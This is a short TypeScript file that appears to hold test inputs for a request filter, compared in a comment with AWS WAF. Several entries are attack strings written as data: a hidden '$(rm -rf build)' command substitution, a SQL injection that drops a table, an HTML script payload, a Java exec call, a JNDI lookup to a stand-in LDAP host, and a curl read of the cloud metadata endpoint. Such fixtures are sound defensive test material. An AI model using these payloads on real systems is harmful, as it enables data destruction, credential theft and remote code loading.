/** What people and models write to tools, by what a filter of requests may take it for. */
export const TEXTS = {
  code: 'import os\nfor name in os.listdir("../../src"):\n    print(open(name).read())  # TODO: $(rm -rf build)\n',
  sql: "SELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users; -- everything",
  html: '<html><body onload="start()"><script>alert("hello")</script><a href="http://10.0.0.7/a.ini">log</a></body></html>',
  java: 'Runtime.getRuntime().exec("whoami"); // as in CVE-2022-22965, and ${jndi:ldap://example.com/a} as in CVE-2021-44228',
  address: "curl http://169.254.169.254/latest/meta-data/ > /var/log/boot.log",
  // More than AWS WAF looks at.
  file: Array.from(
    { length: 115 },
    (_, i) => `export const line${i} = (value: string) => value.replace(/<[^>]+>/g, "${i}");\n`,
  ).join(""),
};
